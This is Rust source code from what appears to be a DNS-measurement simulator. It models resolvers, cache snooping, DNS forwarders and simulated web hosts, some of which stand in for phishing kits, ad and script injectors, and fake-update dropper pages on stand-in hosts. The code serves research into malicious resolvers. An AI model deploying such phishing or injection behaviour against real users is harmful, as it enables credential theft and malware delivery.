                    Some(rec) => legit_content(&rec.name, rec.category),
                    None => gen::http_error(502, &ctx),
                };
                let mut r = HttpResponse::ok(body);
                if req.tls {
                    // TLS proxies forward the original, valid certificate.
                    r = r.with_certificate(TlsCertificate::valid_for(&host));
                }
                r
            }
            WebRole::AdManipulator { mode } => {
                // The ad front-end pretends to be the ad provider: it
                // serves a manipulated version of the provider's page.
                let base = legit_content(&host, DomainCategory::Ads);
                let body = match mode {
                    AdMode::InjectBanner => gen::inject_ad(&base, "ads.rogue.example"),
                    AdMode::InjectScript => gen::inject_script(&base, "js.rogue.example"),
                    AdMode::Blank => gen::blank_ads(&base),
                    AdMode::FakeSearch => gen::search_page("Google", true, &ctx),
                };
                HttpResponse::ok(body)
            }
            WebRole::MailServer { .. } => {
                return None; // mail hosts expose no HTTP
            }
            WebRole::FakeUpdate { product } => {
                HttpResponse::ok(gen::fake_update_page(product, &ctx))
            }
        };
        Some(resp)
    }
}

impl Host for WebHost {
    fn on_udp(&mut self, _ctx: &mut HostCtx<'_>, _dgram: &Datagram) {
        // Web hosts ignore UDP.
    }

    fn on_tcp(
        &mut self,
        _now: SimTime,
        _local_ip: Ipv4Addr,
        port: u16,
        req: &TcpRequest,
    ) -> Option<TcpResponse> {
        match req {
            TcpRequest::Http(http) => {
                let expected_port = if http.tls { 443 } else { 80 };
                if port != expected_port {
                    return None;
                }
                self.serve_http(http).map(TcpResponse::Http)
            }
            TcpRequest::MailProbe(proto) => match &self.role {
                WebRole::MailServer { banners } => banners
                    .for_port(proto.port())
                    .filter(|_| proto.port() == port)
                    .map(|b| TcpResponse::MailBanner(b.to_string())),
                _ => None,
            },
            TcpRequest::BannerProbe => match &self.role {
                WebRole::MailServer { banners } => banners
                    .for_port(port)
                    .map(|b| TcpResponse::Banner(b.to_string())),
                _ if port == 80 => Some(TcpResponse::Banner(
                    "HTTP/1.0 200 OK\r\nServer: Apache".into(),
                )),
                _ => None,
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::universe::{DomainKind, DomainRecord};
    use netsim::MailProto;

    fn ip(_: &str) -> Ipv4Addr {
        Ipv4Addr::new(0, 0, 0, 0)
    }

    fn http(host: &str) -> TcpRequest {
        TcpRequest::Http(HttpRequest::http(host))
    }

    fn get(hosts: &mut WebHost, port: u16, req: &TcpRequest) -> Option<TcpResponse> {
        hosts.on_tcp(SimTime::ZERO, ip(""), port, req)
    }

    #[test]
    fn legit_site_serves_own_domain_only() {
        let mut h = WebHost::new(
            WebRole::LegitSite {
                domain: "bank.example".into(),
                category: DomainCategory::Banking,
            },
            1,
        );
        let ok = get(&mut h, 80, &http("bank.example")).unwrap();
        assert_eq!(ok.as_http().unwrap().status, 200);
        assert!(ok.as_http().unwrap().body.contains("Online Banking"));
        let miss = get(&mut h, 80, &http("other.example")).unwrap();
        assert_eq!(miss.as_http().unwrap().status, 404);
    }

    #[test]
    fn content_identical_across_hosts_serving_same_domain() {
        let mut a = WebHost::new(
            WebRole::LegitSite {
                domain: "bank.example".into(),
                category: DomainCategory::Banking,
            },
            1,
        );
        let mut b = WebHost::new(
            WebRole::TransparentProxy {
                universe: {
                    let mut u = DnsUniverse::new();
                    u.add_domain(DomainRecord {
                        name: "bank.example".into(),
                        category: DomainCategory::Banking,
                        kind: DomainKind::Fixed(vec![]),
                        ttl: 60,
                        is_mail_host: false,
                    });
                    Arc::new(u)
                },
                tls: false,
            },
            999, // different host seed must not matter
        );
        let ra = get(&mut a, 80, &http("bank.example")).unwrap();
        let rb = get(&mut b, 80, &http("bank.example")).unwrap();
        assert_eq!(ra.as_http().unwrap().body, rb.as_http().unwrap().body);
    }

    #[test]
    fn http_only_proxy_refuses_tls() {
        let mut p = WebHost::new(
            WebRole::TransparentProxy {
                universe: Arc::new(DnsUniverse::new()),
                tls: false,
            },
            1,
        );
        let req = TcpRequest::Http(HttpRequest::https_sni("bank.example"));
        assert!(get(&mut p, 443, &req).is_none());
    }

    #[test]
    fn tls_proxy_forwards_valid_certificate() {
        let mut p = WebHost::new(
            WebRole::TransparentProxy {
                universe: Arc::new(DnsUniverse::new()),
                tls: true,
            },
            1,
        );
        let req = TcpRequest::Http(HttpRequest::https_sni("bank.example"));
        let r = get(&mut p, 443, &req).unwrap();
        let cert = r.as_http().unwrap().certificate.clone().unwrap();
        assert!(cert.valid_chain);
        assert!(cert.covers("bank.example"));
    }

    #[test]
    fn cdn_edge_serves_hosted_domains_with_default_cert_fallback() {
        let hosted = Arc::new(vec![(
            "cdn-site.example".to_string(),
            DomainCategory::Alexa,
        )]);
        let mut e = WebHost::new(
            WebRole::CdnEdge {
                provider: "cdnone".into(),
                hosted,
            },
            2,
        );
        // SNI request → per-domain cert.
        let sni = TcpRequest::Http(HttpRequest::https_sni("cdn-site.example"));
        let r = get(&mut e, 443, &sni).unwrap();
        assert!(r
            .as_http()
            .unwrap()
            .certificate
            .as_ref()
            .unwrap()
            .covers("cdn-site.example"));
        // No-SNI → provider default cert.
        let nosni = TcpRequest::Http(HttpRequest::https_no_sni("cdn-site.example"));
        let r2 = get(&mut e, 443, &nosni).unwrap();
        assert_eq!(
            r2.as_http()
                .unwrap()
                .certificate
                .as_ref()
                .unwrap()
                .common_name,
            "edge.cdnone.example"
        );
    }

    #[test]
    fn phish_kit_variants() {
        let mut img = WebHost::new(
            WebRole::PhishKit {
                target: "paypal.example".into(),
                tls_self_signed: false,
                bank_clone: false,
            },
            3,
        );
        let r = get(&mut img, 80, &http("paypal.example")).unwrap();
        assert!(r.as_http().unwrap().body.contains("collect.php"));
        // No TLS listener.
        assert!(get(
            &mut img,
            443,
            &TcpRequest::Http(HttpRequest::https_sni("paypal.example"))
        )
        .is_none());

        let mut tls_kit = WebHost::new(
            WebRole::PhishKit {
                target: "paypal.example".into(),
                tls_self_signed: true,
                bank_clone: false,
            },
            4,
        );
        let r2 = get(
            &mut tls_kit,
            443,
            &TcpRequest::Http(HttpRequest::https_sni("paypal.example")),
        )
        .unwrap();
        assert!(
            !r2.as_http()
                .unwrap()
                .certificate
                .as_ref()
                .unwrap()
                .valid_chain
        );
    }

    #[test]
    fn censor_landing_carries_marker() {
        let mut h = WebHost::new(
            WebRole::CensorLanding {
                country: "Turkey".into(),
                authority: "telecommunications authority".into(),
            },
            5,
        );
        let r = get(&mut h, 80, &http("youporn.example")).unwrap();
        assert!(r
            .as_http()
            .unwrap()
            .body
            .contains("blocked by the order of"));
    }

    #[test]
    fn mail_server_banners_per_port() {
        let mut m = WebHost::new(
            WebRole::MailServer {
                banners: MailBanners::provider("gmail.example"),
            },
            6,
        );
        let smtp = get(&mut m, 25, &TcpRequest::MailProbe(MailProto::Smtp)).unwrap();
        assert!(smtp.as_banner().unwrap().starts_with("220"));
        let imap = get(&mut m, 143, &TcpRequest::MailProbe(MailProto::Imap)).unwrap();
        assert!(imap.as_banner().unwrap().contains("IMAP"));
        let pop = get(&mut m, 110, &TcpRequest::MailProbe(MailProto::Pop3)).unwrap();
        assert!(pop.as_banner().unwrap().starts_with("+OK"));
        // Wrong port for the protocol: refused.
        assert!(get(&mut m, 25, &TcpRequest::MailProbe(MailProto::Imap)).is_none());
        // No HTTP.
        assert!(get(&mut m, 80, &http("smtp.gmail.example")).is_none());
    }

    #[test]
    fn ad_manipulator_modes_differ() {
        let modes = [
            AdMode::InjectBanner,
            AdMode::InjectScript,
            AdMode::Blank,
            AdMode::FakeSearch,
        ];
        let bodies: Vec<String> = modes
            .iter()
            .map(|m| {
                let mut h = WebHost::new(WebRole::AdManipulator { mode: *m }, 7);
                get(&mut h, 80, &http("adnet.example"))
                    .unwrap()
                    .as_http()
                    .unwrap()
                    .body
                    .clone()
            })
            .collect();
        assert!(bodies[0].contains("ads.rogue.example"));
        assert!(bodies[1].contains("js.rogue.example"));
        assert!(bodies[3].contains("ads.inject.example"));
        let set: std::collections::HashSet<_> = bodies.iter().collect();
        assert_eq!(set.len(), 4);
    }

    #[test]
    fn disabled_edge_serves_nothing() {
        let mut h = WebHost::new(WebRole::DisabledEdge, 8);
        assert!(get(&mut h, 80, &http("cdn-site.example")).is_none());
    }

    #[test]
    fn fake_update_serves_dropper_page() {
        let mut h = WebHost::new(
            WebRole::FakeUpdate {
                product: "Flash".into(),
            },
            9,
        );
        let r = get(&mut h, 80, &http("update.adobe.example")).unwrap();
        assert!(r.as_http().unwrap().body.contains("update_setup.exe"));
    }
}
