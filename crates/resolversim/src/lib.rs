//! # resolversim — host behaviours for the simulated DNS world
//!
//! Every kind of host the *Going Wild* study encounters is modelled
//! here as a [`netsim::Host`] implementation:
//!
//! * [`ResolverHost`] — an open recursive resolver with a configurable
//!   [`ResolverBehavior`] (honest, censoring, NX-monetizing, static-IP,
//!   self-IP, REFUSED/SERVFAIL, NS-only, proxy-to-mail, …), a
//!   [`SoftwareProfile`] answering CHAOS `version.bind` scans, a
//!   [`DeviceProfile`] exposing TCP service banners, and a
//!   [`CacheProfile`] driving cache-snooping semantics.
//! * [`WebHost`] — web/mail endpoints: legitimate category sites, CDN
//!   edges, censorship landing pages, parking, search, router logins,
//!   captive portals, phishing kits, transparent proxies, ad injectors,
//!   fake-update malware hosts and mail servers.
//! * [`GreatFirewall`] — an on-path injector racing forged answers for
//!   censored domains queried at Chinese address space.
//!
//! The shared fabric is [`DnsUniverse`]: the authoritative view of which
//! domains exist, which IPs legitimately serve them (including
//! region-dependent CDN answers), and which TLD name servers exist (for
//! the snooping campaign). Hosts hold an `Arc<DnsUniverse>`.
//!
//! The `tokioserve` module exposes any [`ResolverHost`] on a real UDP
//! socket via tokio, so the scanner's tokio driver can be exercised
//! end-to-end on loopback.

pub mod behavior;
pub mod cachesim;
pub mod device;
pub mod forwarder;
pub mod gfw;
pub mod resolver;
pub mod software;
pub mod tokioserve;
pub mod universe;
pub mod webhost;

pub use behavior::{Answer, CensorPolicy, CensorRule, QueryCtx, Reply, ResolverBehavior};
pub use cachesim::{CacheProfile, SnoopObservation, TldCacheSim};
pub use device::{DeviceClass, DeviceOs, DeviceProfile};
pub use forwarder::ForwarderHost;
pub use gfw::GreatFirewall;
pub use resolver::ResolverHost;
pub use software::{ChaosPolicy, SoftwareProfile};
pub use universe::{DnsUniverse, DomainCategory, DomainKind, DomainRecord, Resolution};
pub use webhost::{WebHost, WebRole};
