//! Serve a [`ResolverHost`] on a real UDP socket with tokio.
//!
//! This is the bridge between the deterministic simulation world and
//! actual networking code: the same `ResolverHost` behaviour object that
//! runs inside `netsim` can be exposed on 127.0.0.1, and the scanner's
//! tokio driver can enumerate and classify it exactly as it would a real
//! open resolver. Integration tests and the `loopback_scan` example use
//! this to prove the scanner is not simulation-bound.

use crate::resolver::ResolverHost;
use netsim::{Datagram, HostCtx, SimTime};
use parking_lot::Mutex;
use std::net::{SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::time::Instant;
use tokio::net::UdpSocket;
use tokio::sync::oneshot;

/// Handle to a running loopback resolver.
pub struct ResolverServer {
    /// The bound address (useful when port 0 was requested).
    pub local_addr: SocketAddrV4,
    shutdown: Option<oneshot::Sender<()>>,
    task: tokio::task::JoinHandle<()>,
}

impl ResolverServer {
    /// Bind `host` to `addr` (e.g. `127.0.0.1:0`) and serve until
    /// [`ResolverServer::shutdown`] or drop.
    pub async fn spawn(host: ResolverHost, addr: SocketAddrV4) -> std::io::Result<ResolverServer> {
        let socket = UdpSocket::bind(SocketAddr::V4(addr)).await?;
        let local_addr = match socket.local_addr()? {
            SocketAddr::V4(a) => a,
            SocketAddr::V6(_) => unreachable!("bound V4"),
        };
        let (tx, mut rx) = oneshot::channel();
        let host = Arc::new(Mutex::new(host));
        let start = Instant::now();

        let task = tokio::spawn(async move {
            let mut buf = vec![0u8; 4096];
            loop {
                tokio::select! {
                    _ = &mut rx => break,
                    result = socket.recv_from(&mut buf) => {
                        let Ok((len, peer)) = result else { break };
                        let SocketAddr::V4(peer) = peer else { continue };
                        let now = SimTime(start.elapsed().as_millis() as u64);
                        let dgram = Datagram::new(
                            *peer.ip(),
                            peer.port(),
                            *local_addr.ip(),
                            local_addr.port(),
                            buf[..len].to_vec(),
                        );
                        let mut outgoing: Vec<(u64, Datagram)> = Vec::new();
                        {
                            use netsim::Host as _;
                            let mut guard = host.lock();
                            let mut ctx = HostCtx::new(now, dgram.dst_ip, &mut outgoing);
                            (*guard).on_udp(&mut ctx, &dgram);
                        }
                        for (delay_ms, out) in outgoing {
                            if delay_ms > 0 {
                                tokio::time::sleep(std::time::Duration::from_millis(delay_ms)).await;
                            }
                            let dst = SocketAddrV4::new(out.dst_ip, out.dst_port);
                            let _ = socket.send_to(&out.payload, SocketAddr::V4(dst)).await;
                        }
                    }
                }
            }
        });

        Ok(ResolverServer {
            local_addr,
            shutdown: Some(tx),
            task,
        })
    }

    /// Stop serving.
    pub async fn shutdown(mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        let task = &mut self.task;
        let _ = task.await;
    }
}

impl Drop for ResolverServer {
    fn drop(&mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
    }
}

/// Convenience: spawn a fleet of resolvers on consecutive loopback
/// ports. Returns the servers; their addresses are in `local_addr`.
pub async fn spawn_fleet(
    hosts: Vec<ResolverHost>,
    base: SocketAddrV4,
) -> std::io::Result<Vec<ResolverServer>> {
    let mut servers = Vec::with_capacity(hosts.len());
    let mut port = base.port();
    for host in hosts {
        let addr = SocketAddrV4::new(*base.ip(), port);
        servers.push(ResolverServer::spawn(host, addr).await?);
        if port != 0 {
            port += 1;
        }
    }
    Ok(servers)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::behavior::ResolverBehavior;
    use crate::cachesim::{CacheProfile, TldCacheSim};
    use crate::device::DeviceProfile;
    use crate::software::{ChaosPolicy, SoftwareProfile};
    use crate::universe::{DnsUniverse, DomainCategory, DomainKind, DomainRecord};
    use dnswire::{Message, MessageBuilder, Name, RecordType};
    use std::net::Ipv4Addr;

    fn test_host() -> ResolverHost {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "loop.example".into(),
            category: DomainCategory::Misc,
            kind: DomainKind::Fixed(vec![Ipv4Addr::new(198, 51, 100, 1)]),
            ttl: 60,
            is_mail_host: false,
        });
        ResolverHost::new(
            Arc::new(u),
            ResolverBehavior::Honest,
            SoftwareProfile::new("BIND", "9.8.2", ChaosPolicy::Genuine),
            DeviceProfile::closed(),
            TldCacheSim::new(CacheProfile::EmptyAnswer),
            geodb::Rir::Ripe,
            1,
        )
    }

    #[tokio::test]
    async fn serves_real_udp_queries() {
        let server = ResolverServer::spawn(test_host(), SocketAddrV4::new(Ipv4Addr::LOCALHOST, 0))
            .await
            .unwrap();
        let addr = server.local_addr;

        let client = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let q = MessageBuilder::query(0x1337, Name::parse("loop.example").unwrap(), RecordType::A)
            .build();
        client
            .send_to(&q.encode(), SocketAddr::V4(addr))
            .await
            .unwrap();
        let mut buf = [0u8; 1024];
        let (len, _) = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            client.recv_from(&mut buf),
        )
        .await
        .expect("timely response")
        .unwrap();
        let resp = Message::decode(&buf[..len]).unwrap();
        assert_eq!(resp.header.id, 0x1337);
        assert_eq!(resp.answer_ips(), vec![Ipv4Addr::new(198, 51, 100, 1)]);
        server.shutdown().await;
    }

    #[tokio::test]
    async fn fleet_spawns_on_distinct_ports() {
        let servers = spawn_fleet(
            vec![test_host(), test_host(), test_host()],
            SocketAddrV4::new(Ipv4Addr::LOCALHOST, 0),
        )
        .await
        .unwrap();
        let mut ports: Vec<u16> = servers.iter().map(|s| s.local_addr.port()).collect();
        ports.sort_unstable();
        ports.dedup();
        assert_eq!(ports.len(), 3);
        for s in servers {
            s.shutdown().await;
        }
    }
}
