//! TLD-cache behaviour for cache snooping (Section 2.6).
//!
//! The campaign requests NS records for 15 TLDs (RD=0) every 60 minutes
//! for 36 hours and watches whether expired entries get *re-added*
//! (evidence of real client activity) and how fast.
//!
//! Rather than simulating individual clients, [`TldCacheSim`] computes
//! cache state as a deterministic closed-form function of time: an
//! in-use TLD cycles between *cached* (for `ttl`) and *absent* (for the
//! refresh gap until the next client request re-caches it). This is
//! exactly what a snooping observer can distinguish, and keeps a
//! 36-hour × 15-TLD × millions-of-resolvers campaign cheap.

use serde::{Deserialize, Serialize};

/// Per-resolver cache-snooping behaviour class. Population shares come
/// from Sec. 2.6's findings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum CacheProfile {
    /// Replies to NS queries with an empty answer (7.3% of resolvers).
    EmptyAnswer,
    /// Sends a single response, then stops replying (3.3%; the paper
    /// attributes this to churn — we model the externally visible
    /// behaviour directly).
    SingleThenSilent,
    /// Returns the same TTL for every request (part of the 4.0%).
    StaticTtl {
        /// The invented constant TTL.
        ttl: u32,
    },
    /// Returns TTL 0 for everything (rest of the 4.0%).
    ZeroTtl,
    /// A real cache with client activity: entries expire and are
    /// re-added `refresh_gap_s` seconds later by client lookups. The
    /// entry's full TTL is the *zone's* (passed per observation — NS
    /// TTLs are set by the TLD operator, not the resolver).
    /// `tld_mask` selects which of the 15 snooped TLDs this resolver's
    /// clients actually use.
    InUse {
        /// Seconds between expiry and the next client-driven refresh.
        refresh_gap_s: u32,
        /// Which of the snooped TLDs this resolver's clients use.
        tld_mask: u32,
        /// Phase offset in seconds, so cycles don't align across hosts.
        phase_s: u32,
    },
    /// Keeps resetting TTLs ahead of expiry (19.6%; proactive refresh
    /// or load-balanced cache groups): observed TTLs hover near the
    /// zone TTL.
    TtlResetter,
    /// Very long TTLs that decrease but never expire inside the window.
    SlowDecreasing {
        /// The inflated starting TTL.
        ttl: u32,
    },
}

/// What a snooping NS query observes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SnoopObservation {
    /// Entry cached; remaining TTL in seconds.
    Cached {
        /// Seconds until expiry.
        remaining_ttl: u32,
    },
    /// Entry not in cache (RD=0, so the resolver won't fetch it).
    Absent,
    /// Resolver answered with an empty answer section.
    Empty,
    /// Resolver did not answer at all.
    Silent,
}

/// Closed-form cache simulator.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TldCacheSim {
    profile: CacheProfile,
    /// Number of NS queries answered so far (for `SingleThenSilent`).
    answered: u32,
}

impl TldCacheSim {
    /// A fresh simulator for `profile` with no queries answered yet.
    pub fn new(profile: CacheProfile) -> Self {
        TldCacheSim {
            profile,
            answered: 0,
        }
    }

    /// The underlying cache profile.
    pub fn profile(&self) -> &CacheProfile {
        &self.profile
    }

    /// Observe the cache state for TLD index `tld_idx` (0-based within
    /// the snooped set) at `t_s` seconds since the epoch. `zone_ttl` is
    /// the TLD's authoritative NS TTL. Mutates the single-response
    /// counter.
    pub fn observe(&mut self, tld_idx: u32, zone_ttl: u32, t_s: u64) -> SnoopObservation {
        match &self.profile {
            CacheProfile::EmptyAnswer => SnoopObservation::Empty,
            CacheProfile::SingleThenSilent => {
                self.answered += 1;
                if self.answered == 1 {
                    SnoopObservation::Cached {
                        remaining_ttl: 3600,
                    }
                } else {
                    SnoopObservation::Silent
                }
            }
            CacheProfile::StaticTtl { ttl } => SnoopObservation::Cached {
                remaining_ttl: *ttl,
            },
            CacheProfile::ZeroTtl => SnoopObservation::Cached { remaining_ttl: 0 },
            CacheProfile::InUse {
                refresh_gap_s,
                tld_mask,
                phase_s,
            } => {
                if tld_idx < 32 && tld_mask & (1 << tld_idx) == 0 {
                    // Clients never query this TLD: permanently absent.
                    return SnoopObservation::Absent;
                }
                // Stagger each TLD's cycle so refreshes don't align.
                let ttl = zone_ttl;
                let cycle = (ttl as u64) + (*refresh_gap_s as u64);
                let shifted = t_s + *phase_s as u64 + (tld_idx as u64 * 977);
                let in_cycle = shifted % cycle;
                if in_cycle < ttl as u64 {
                    SnoopObservation::Cached {
                        remaining_ttl: (ttl as u64 - in_cycle) as u32,
                    }
                } else {
                    SnoopObservation::Absent
                }
            }
            CacheProfile::TtlResetter => {
                // Remaining TTL hovers near the zone maximum: the
                // resolver refreshes long before expiry.
                let wiggle = (t_s / 60) % (zone_ttl as u64 / 12).max(1);
                SnoopObservation::Cached {
                    remaining_ttl: zone_ttl.saturating_sub(wiggle as u32),
                }
            }
            CacheProfile::SlowDecreasing { ttl } => {
                let elapsed = (t_s % (*ttl as u64 / 2).max(1)) as u32;
                SnoopObservation::Cached {
                    remaining_ttl: ttl.saturating_sub(elapsed),
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_use_cycles_between_cached_and_absent() {
        let mut sim = TldCacheSim::new(CacheProfile::InUse {
            refresh_gap_s: 600,
            tld_mask: u32::MAX,
            phase_s: 0,
        });
        let mut seen_cached = false;
        let mut seen_absent = false;
        let mut re_added = false;
        let mut prev_absent = false;
        for hour in 0..36 {
            match sim.observe(0, 3600, hour * 3600) {
                SnoopObservation::Cached { .. } => {
                    if prev_absent {
                        re_added = true;
                    }
                    seen_cached = true;
                    prev_absent = false;
                }
                SnoopObservation::Absent => {
                    seen_absent = true;
                    prev_absent = true;
                }
                other => panic!("unexpected {other:?}"),
            }
        }
        assert!(seen_cached && seen_absent && re_added);
    }

    #[test]
    fn in_use_ttl_decreases_within_cycle() {
        let mut sim = TldCacheSim::new(CacheProfile::InUse {
            refresh_gap_s: 100_000,
            tld_mask: u32::MAX,
            phase_s: 0,
        });
        let a = match sim.observe(0, 3600, 0) {
            SnoopObservation::Cached { remaining_ttl } => remaining_ttl,
            other => panic!("{other:?}"),
        };
        let b = match sim.observe(0, 3600, 1800) {
            SnoopObservation::Cached { remaining_ttl } => remaining_ttl,
            other => panic!("{other:?}"),
        };
        assert!(b < a);
    }

    #[test]
    fn unused_tld_always_absent() {
        let mut sim = TldCacheSim::new(CacheProfile::InUse {
            refresh_gap_s: 60,
            tld_mask: 0b1, // only TLD 0 used
            phase_s: 0,
        });
        for hour in 0..36 {
            assert_eq!(sim.observe(5, 3600, hour * 3600), SnoopObservation::Absent);
        }
    }

    #[test]
    fn single_then_silent() {
        let mut sim = TldCacheSim::new(CacheProfile::SingleThenSilent);
        assert!(matches!(
            sim.observe(0, 3600, 0),
            SnoopObservation::Cached { .. }
        ));
        assert_eq!(sim.observe(1, 3600, 60), SnoopObservation::Silent);
        assert_eq!(sim.observe(0, 3600, 3600), SnoopObservation::Silent);
    }

    #[test]
    fn static_and_zero_ttl() {
        let mut s = TldCacheSim::new(CacheProfile::StaticTtl { ttl: 777 });
        for h in 0..10 {
            assert_eq!(
                s.observe(0, 3600, h * 3600),
                SnoopObservation::Cached { remaining_ttl: 777 }
            );
        }
        let mut z = TldCacheSim::new(CacheProfile::ZeroTtl);
        assert_eq!(
            z.observe(0, 3600, 0),
            SnoopObservation::Cached { remaining_ttl: 0 }
        );
    }

    #[test]
    fn resetter_never_near_expiry() {
        let mut sim = TldCacheSim::new(CacheProfile::TtlResetter);
        for h in 0..36 {
            match sim.observe(0, 3600, h * 3600) {
                SnoopObservation::Cached { remaining_ttl } => {
                    assert!(remaining_ttl > 3200, "ttl={remaining_ttl}");
                }
                other => panic!("{other:?}"),
            }
        }
    }

    #[test]
    fn slow_decreasing_never_expires_in_window() {
        let mut sim = TldCacheSim::new(CacheProfile::SlowDecreasing { ttl: 172_800 });
        for h in 0..36 {
            match sim.observe(0, 3600, h * 3600) {
                SnoopObservation::Cached { remaining_ttl } => assert!(remaining_ttl > 0),
                other => panic!("{other:?}"),
            }
        }
    }
}
