//! A stateful DNS forwarding proxy.
//!
//! Schomp et al. (IMC 2013), which the paper builds on, distinguish
//! *recursive resolvers* from *DNS proxies* — CPE devices that accept
//! queries and forward them to an upstream recursive (usually the
//! ISP's). The paper observes their fingerprint in every weekly scan:
//! "630,000 to 750,000 resolvers … respond to DNS requests that were
//! sent to different target hosts" (Sec. 2.2).
//!
//! [`ForwarderHost`] implements the real mechanism: it relays queries
//! upstream under its own transaction IDs, remembers who asked, and
//! relays answers back. A configurable `leaky` mode models broken NAT
//! devices whose *upstream* answers the client directly — producing the
//! source-mismatch signature the scanner keys on.

use dnswire::Message;
use netsim::{Datagram, Host, HostCtx, SimTime, TcpRequest, TcpResponse};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

/// Upper bound on in-flight forwarded queries; beyond it the oldest
/// entries are dropped (cheap CPE devices have tiny state tables).
const MAX_PENDING: usize = 512;

/// A forwarding DNS proxy.
pub struct ForwarderHost {
    /// The upstream recursive resolver.
    pub upstream: Ipv4Addr,
    /// When `true`, the proxy rewrites the query's source to the
    /// original client before forwarding (broken full-cone NAT): the
    /// upstream answers the client *directly*, from its own address —
    /// the multi-homed / source-mismatch signature.
    pub leaky: bool,
    /// In-flight: wire TXID → (client ip, client port).
    pending: HashMap<u16, (Ipv4Addr, u16)>,
    /// Insertion order for bounded eviction.
    order: Vec<u16>,
    /// Queries forwarded upstream.
    pub forwarded: u64,
    /// Upstream answers relayed to clients.
    pub relayed_back: u64,
    /// Liveness switch (shared with the world's lifecycle driver).
    pub alive: Arc<AtomicBool>,
}

impl ForwarderHost {
    /// A well-behaved (relaying) forwarder.
    pub fn new(upstream: Ipv4Addr) -> Self {
        ForwarderHost {
            upstream,
            leaky: false,
            pending: HashMap::new(),
            order: Vec::new(),
            forwarded: 0,
            relayed_back: 0,
            alive: Arc::new(AtomicBool::new(true)),
        }
    }

    /// Share a liveness flag with the caller.
    pub fn with_alive(mut self, alive: Arc<AtomicBool>) -> Self {
        self.alive = alive;
        self
    }

    /// A broken-NAT forwarder whose upstream answers clients directly.
    pub fn leaky(upstream: Ipv4Addr) -> Self {
        ForwarderHost {
            leaky: true,
            ..Self::new(upstream)
        }
    }
}

impl Host for ForwarderHost {
    fn on_udp(&mut self, ctx: &mut HostCtx<'_>, dgram: &Datagram) {
        if !self.alive.load(Ordering::Relaxed) {
            return;
        }
        let Ok(msg) = Message::decode(&dgram.payload) else {
            return;
        };
        if msg.header.response {
            // An upstream answer: relay to whoever asked. The TXID was
            // kept stable on the wire, so no rewriting is needed.
            if let Some((client_ip, client_port)) = self.pending.remove(&msg.header.id) {
                self.order.retain(|&t| t != msg.header.id);
                self.relayed_back += 1;
                ctx.send_udp(Datagram::new(
                    ctx.local_ip,
                    53,
                    client_ip,
                    client_port,
                    msg.encode(),
                ));
            }
            return;
        }
        if msg.questions.is_empty() {
            return;
        }
        // A client query: forward upstream. We keep the client's TXID on
        // the wire (CPE forwarders mostly do) and key our state on it;
        // colliding in-flight TXIDs from different clients are rare and
        // resolved last-writer-wins, faithfully to cheap devices.
        self.forwarded += 1;
        let txid = msg.header.id;
        if self.leaky {
            // Broken NAT: the upstream sees the *client* as the source
            // and will answer it directly from the upstream's address.
            ctx.send_udp(Datagram::new(
                dgram.src_ip,
                dgram.src_port,
                self.upstream,
                53,
                msg.encode(),
            ));
            return;
        }
        if self.pending.len() >= MAX_PENDING {
            if let Some(oldest) = self.order.first().copied() {
                self.pending.remove(&oldest);
                self.order.remove(0);
            }
        }
        self.pending.insert(txid, (dgram.src_ip, dgram.src_port));
        self.order.push(txid);
        ctx.send_udp(Datagram::new(
            ctx.local_ip,
            53,
            self.upstream,
            53,
            msg.encode(),
        ));
    }

    fn on_tcp(
        &mut self,
        _now: SimTime,
        _local_ip: Ipv4Addr,
        _port: u16,
        _req: &TcpRequest,
    ) -> Option<TcpResponse> {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::behavior::ResolverBehavior;
    use crate::cachesim::{CacheProfile, TldCacheSim};
    use crate::device::DeviceProfile;
    use crate::software::{ChaosPolicy, SoftwareProfile};
    use crate::universe::{DnsUniverse, DomainCategory, DomainKind, DomainRecord};
    use dnswire::{MessageBuilder, Name, RecordType};
    use netsim::{Network, NetworkConfig};
    use std::sync::Arc;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn setup(leaky: bool) -> (Network, Ipv4Addr) {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "fwd.example".into(),
            category: DomainCategory::Misc,
            kind: DomainKind::Fixed(vec![ip("198.51.100.9")]),
            ttl: 60,
            is_mail_host: false,
        });
        let universe = Arc::new(u);
        let mut net = Network::new(NetworkConfig {
            seed: 11,
            udp_loss: 0.0,
            latency_ms: (5, 30),
            tcp_loss: 0.0,
        });
        // Upstream recursive.
        let upstream_ip = ip("20.0.0.53");
        let upstream = net.add_host(Box::new(crate::ResolverHost::new(
            universe,
            ResolverBehavior::Honest,
            SoftwareProfile::new("BIND", "9.9.5", ChaosPolicy::Genuine),
            DeviceProfile::closed(),
            TldCacheSim::new(CacheProfile::EmptyAnswer),
            geodb::Rir::Arin,
            1,
        )));
        net.bind_ip(upstream_ip, upstream);
        // The CPE forwarder.
        let fwd_ip = ip("5.5.5.5");
        let fwd: Box<dyn Host> = if leaky {
            Box::new(ForwarderHost::leaky(upstream_ip))
        } else {
            Box::new(ForwarderHost::new(upstream_ip))
        };
        let fwd_id = net.add_host(fwd);
        net.bind_ip(fwd_ip, fwd_id);
        (net, fwd_ip)
    }

    #[test]
    fn forwarder_relays_answers_transparently() {
        let (mut net, fwd_ip) = setup(false);
        let client = ip("100.0.0.1");
        let sock = net.open_socket(client, 41_000);
        let q = MessageBuilder::query(0xABCD, Name::parse("fwd.example").unwrap(), RecordType::A)
            .build();
        net.send_udp(Datagram::new(client, 41_000, fwd_ip, 53, q.encode()));
        net.run_until(netsim::SimTime::from_secs(5));
        let got = net.recv_all(sock);
        assert_eq!(got.len(), 1);
        let (_, d) = &got[0];
        // The answer comes back FROM the forwarder (transparent relay).
